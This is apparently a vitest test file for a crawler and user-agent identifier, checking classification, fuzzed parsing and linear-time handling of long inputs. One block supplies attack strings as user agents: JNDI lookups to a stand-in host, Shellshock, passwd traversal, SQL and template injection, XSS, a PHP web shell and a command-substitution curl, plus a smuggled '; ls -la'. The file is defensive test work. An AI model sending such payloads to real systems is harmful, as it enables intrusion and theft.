import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { formOf, isAttack, withoutDeviceModel } from './browser-form.js';
import { loadCrawlerTable } from './load-table.js';
import { createCrawlerIdentifier, UNKNOWN_CLIENT } from './table.js';

const identify = createCrawlerIdentifier(loadCrawlerTable());
const webkit = 'AppleWebKit/537.36 (KHTML, like Gecko)';
const windows = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';

describe('an unknown client', () => {
  test.each([
    windows,
    `${windows} AppleWebKit/537.36`,
    `${windows} ${webkit}`,
    `${windows} ${webkit} Chrome`,
    `${windows} ${webkit} Chrome/W.X.Y.Z Safari/537.36`,
    'Mozilla/5.0 (Windows NT 10.0; Win64',
    'Mozilla/5.0 (X11; Linux x86_64)',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)',
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${webkit}`,
    'Mozilla/5.0 (Linux; Android 10; K)',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X)',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15',
    'Mozilla/5.0 (X11; Linux x86_64; rv:Camoufox 140.0) Gecko/20100101 Firefox/Camoufox 140.0',
    'Mozilla/5.0',
    'Mozilla/4.0 (Windows)',
    '-1',
    '*',
    '#{7*7}',
    '; ls -la',
    `"${windows}"`,
    `User-Agent: ${windows} ${webkit} Chrome/120.0.0.0 Safari/537.36`,
  ])('begins as a browser does, and has none: %s', (userAgent) =>
    expect(identify(userAgent)).toMatchObject({
      name: UNKNOWN_CLIENT,
      category: 'other',
      operator: '',
      method: 'none',
    }),
  );

  test.each([
    '\u0024{jndi:ldap://a.example/x}',
    '\u0024{\u0024{lower:j}ndi:ldap://a.example/x}',
    `${windows} ${webkit} Chrome/141.0.0.0 Safari/537.36 \u0024{jndi:dns://a.example}`,
    '() { :; }; echo x',
    '../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '/etc/passwd',
    "1' OR '1'='1",
    "Mozilla/5.0' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- ",
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '<?php system($_GET[0]); ?>',
    '{{7*7}}',
    '\u0024(curl http://a.example)',
  ])('sends the text of an attack: %s', (userAgent) =>
    expect(identify(userAgent)?.name).toBe(UNKNOWN_CLIENT),
  );

  test.each([
    // A web view of macOS, a television, a console and apps that send no browser.
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 15_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Keepsafe Browser',
    'Mozilla/5.0 (PLAYSTATION 3; 3.55)',
    'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko',
    'Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.7.8) Gecko/20050511',
    'MyShop/5 CFNetwork/1568.200.51 Darwin/24.1.0',
    'Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
  ])('is none that has a browser or a device: %s', (userAgent) => expect(identify(userAgent)).toBeNull());
});

test('forms are read of any text, at once', () => {
  const part = fc.constantFrom(
    'Mozilla/5.0 (',
    'Android 10; ',
    'AppleWebKit/',
    '@a-',
    '.a',
    '(a.',
    ') ',
    ';',
    'Build/x',
    ' ',
    '..',
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.array(part, { maxLength: 60 }).map((all) => all.join('')),
      ),
      (text) => {
        expect(typeof isAttack(text)).toBe('boolean');
        expect(['browser', 'half', 'other']).toContain(formOf(withoutDeviceModel(text)));
      },
    ),
  );
});

test.each(['@a-', '(a.', 'Android 1; ', 'a.aa/', '<!', ') Macintosh;', '(Macintosh;'])(
  'a long row of %j is read in linear time',
  (piece) => {
    const text = `Mozilla/5.0 AppleWebKit/605 ${piece.repeat(20_000)}`;
    const began = performance.now();
    identify(text);
    expect(performance.now() - began).toBeLessThan(1_000);
  },
);
